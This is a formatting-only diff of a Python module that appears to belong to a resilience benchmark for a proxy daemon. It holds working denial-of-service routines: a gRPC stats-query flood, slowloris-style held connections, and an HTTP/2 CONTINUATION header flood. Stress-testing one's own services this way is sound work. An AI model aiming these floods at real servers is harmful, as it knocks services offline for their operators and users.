@@ -1,4 +1,5 @@
-"""One attack on a daemon's listeners, until standard input ends: ``python -m bench.attacks.attacker ATTACK ADDRESS``.
+"""One attack on a daemon's listeners, until standard input ends: ``python -m bench.attacks.attacker
+ATTACK ADDRESS``.
 
 It stops by itself after a minute.
 """
@@ -43,8 +44,12 @@ def _queries(host: str, port: int) -> None:
     """Ask for every counter again and again."""
     import grpc
 
-    with grpc.insecure_channel(f"{host}:{port}", options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
-        call = channel.unary_unary("/v2ray.core.app.stats.command.StatsService/QueryStats", bytes, bytes)
+    with grpc.insecure_channel(
+        f"{host}:{port}", options=[("grpc.use_local_subchannel_pool", 1)]
+    ) as channel:
+        call = channel.unary_unary(
+            "/v2ray.core.app.stats.command.StatsService/QueryStats", bytes, bytes
+        )
         while True:
             call(b"")
 
@@ -52,7 +57,10 @@ def _queries(host: str, port: int) -> None:
 def _held(host: str, port: int) -> None:
     """Take a place and say next to nothing."""
     while True:
-        with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=_LONGEST) as connected:
+        with (
+            contextlib.suppress(OSError),
+            socket.create_connection((host, port), timeout=_LONGEST) as connected,
+        ):
             connected.sendall(b"GET / HTTP/1.1\r\n")
             connected.recv(1)
 
@@ -60,9 +68,14 @@ def _held(host: str, port: int) -> None:
 def _continuations(host: str, port: int) -> None:
     """Begin a request's headers by HTTP/2, and never end them (RFC 9113, 6.10)."""
     name = b"x-" + b"n" * 100
-    field = b"\0" + bytes([len(name)]) + name + b"\x7f\xa1\x1f" + b"v" * 4000  # a literal that is not indexed (RFC 7541, 6.2.2)
+    field = (
+        b"\0" + bytes([len(name)]) + name + b"\x7f\xa1\x1f" + b"v" * 4000
+    )  # a literal that is not indexed (RFC 7541, 6.2.2)
     while True:
-        with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=_LONGEST) as connected:
+        with (
+            contextlib.suppress(OSError),
+            socket.create_connection((host, port), timeout=_LONGEST) as connected,
+        ):
             connected.sendall(_PREFACE + _frame(4, 0, 0, b"") + _frame(1, 0, 1, field))
             for _ in range(_FRAMES):
                 connected.sendall(_frame(9, 0, 1, field))
